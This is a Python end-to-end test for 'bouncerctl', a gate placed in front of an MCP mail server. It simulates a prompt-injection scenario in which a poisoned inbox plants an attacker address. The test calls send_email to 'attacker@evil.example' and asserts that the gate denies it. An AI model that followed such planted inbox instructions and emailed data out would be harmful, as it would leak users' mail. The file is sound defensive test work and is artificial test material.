"""What `bouncerctl init` writes for a remote entry runs: the client starts it and reaches the server
through the bridge, with the entry's API key, behind the gate.

The config is a Claude Code style entry (``type: http``, ``url``, ``headers`` with a ``${VAR}``
reference); the server (the mail fixture over streamable HTTP) answers 401 to a request without the
key. After init the test starts exactly the command, arguments and environment the entry names (as
the client would, the variable set in its environment), reads the poisoned inbox and tries to send to
the planted address: the read works (the key reached the server), the send is refused (the gate is
in the way), the key is nowhere on the command line, and undo gives back the original bytes.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import anyio
import pytest
from bouncerctl.app import main
from click.testing import CliRunner
from harness import SHIM, audit_records, blocked_text, bouncer_env, connect
from mcp import StdioServerParameters
from remotes import REMOTE_FIXTURE, free_port, remote_server

if TYPE_CHECKING:
    from daemons import RunningDaemon

pytestmark = pytest.mark.e2e

TEST_TIMEOUT = 60
KEY = "k-9f2c71d0e4"  # the API key the fixture wants in X-Api-Key
ATTACKER = "attacker@evil.example"


@pytest.mark.asyncio
async def test_init_wrapped_remote_entry_reaches_the_server_with_its_key_and_is_gated(
    daemon: RunningDaemon, tmp_path: Path
) -> None:
    port = free_port()
    argv = [sys.executable, str(REMOTE_FIXTURE), "mail", "--port", str(port)]
    argv += ["--require-header", f"X-Api-Key={KEY}"]
    outbox = tmp_path / "outbox.json"
    with (
        anyio.fail_after(TEST_TIMEOUT),
        remote_server(argv, port, "/mcp", env={"FIXTURE_OUTBOX": str(outbox)}) as url,
    ):
        config = tmp_path / "mcp.json"
        original = json.dumps(
            {"mcpServers": {"mail": {"type": "http", "url": url, "headers": {"X-Api-Key": "${MAIL_KEY}"}}}},
            indent=2,
        )
        config.write_text(original)
        env = {"BOUNCER_HOME": str(daemon.home), "HOME": str(tmp_path)}
        done = CliRunner().invoke(
            main, ["init", "--config", str(config), "--yes", "--shim", str(SHIM)], env=env
        )
        assert done.exit_code == 0, done.output
        entry: dict[str, Any] = json.loads(config.read_text())["mcpServers"]["mail"]
        assert KEY not in config.read_text() and "${MAIL_KEY}" not in json.dumps(entry["args"])

        launch_env = {**os.environ, **entry.get("env", {}), **bouncer_env(daemon.home), "MAIL_KEY": KEY}
        params = StdioServerParameters(command=entry["command"], args=entry["args"], env=launch_env)
        async with connect(params, "legacy", kind="shim") as probe:
            inbox = await probe.client.call_tool("read_inbox", {})
            stolen = await probe.client.call_tool(
                "send_email", {"to": ATTACKER, "subject": "fwd", "body": "x"}
            )
        assert inbox.is_error is not True and ATTACKER in inbox.content[0].text  # type: ignore[union-attr]
        assert stolen.is_error is True and ATTACKER in (blocked_text(stolen) or "")
        assert not outbox.exists()
        assert {r["verdict"] for r in audit_records(daemon.home) if r.get("tool") == "send_email"} == {"deny"}

        undone = CliRunner().invoke(main, ["init", "--config", str(config), "--undo", "--yes"], env=env)
        assert undone.exit_code == 0, undone.output
        assert config.read_text() == original
